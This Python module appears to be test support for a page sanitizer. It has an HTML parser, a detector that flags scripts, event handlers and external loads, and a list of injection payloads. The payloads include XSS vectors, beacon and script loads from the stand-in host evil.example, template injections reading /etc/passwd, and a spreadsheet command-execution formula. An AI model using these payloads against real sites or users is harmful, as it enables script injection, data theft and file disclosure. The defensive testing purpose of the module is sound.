"""A page as a browser reads it, and texts that try to do something in one."""

from __future__ import annotations

import re
from html.parser import HTMLParser

VOID = {"meta", "br", "hr", "img", "input", "link"}


class Dom(HTMLParser):
    """Elements with their attributes, and all text; asserts that tags nest."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text, self.open = "", list[str]()
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.elements)


def harmful(dom: Dom) -> list[str]:
    """Scripts, event handlers, and whatever leads or loads from outside the page."""
    bad = {"script", "iframe", "object", "embed", "link", "base", "form", "img", "image", "use"}
    bad |= {"animate", "set", "foreignobject", "video", "audio", "source", "math", "a:href"}
    found = [tag for tag, _ in dom.elements if tag in bad]
    for tag, attributes in dom.elements:
        for name, value in attributes.items():
            leads = name in ("href", "src", "srcset", "action", "data", "xlink:href", "style")
            if name.startswith("on") or (leads and not re.match(r"#[\w-]+$", value or "")):
                found.append(f"<{tag} {name}={value}>")
    return found


# What is put in: shapes of markup, of URLs, of templates, of escapes, of terminals and tables.
PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<script\x00>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "<img src=http://evil.example/beacon.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</text><script>alert(1)</script>",
    "</svg><iframe src=http://evil.example>",
    "<svg><use href=http://evil.example/x.svg#a>",
    "<svg><image xlink:href=http://evil.example/x>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=http://evil.example>",
    "<embed src=http://evil.example>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<form action=http://evil.example><input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=http://evil.example>x</a>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "http://evil.example/x",
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "${7*7}",
    "${env:HOME}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link",
    "\u202e<script>\u2066alert(1)",
    "a\nb\r\n<script>alert(1)</script>",
    "$\\frac{1}{0}$ _x^2 \\input{/etc/passwd}",
    "=cmd|' /C calc'!A0",
    "![beacon](http://evil.example/b.png) [x](javascript:alert(1))",
    "| a | `b` | **c** | <b>d</b> | @someone",
    "\ud800 lone \udfff surrogates",
]
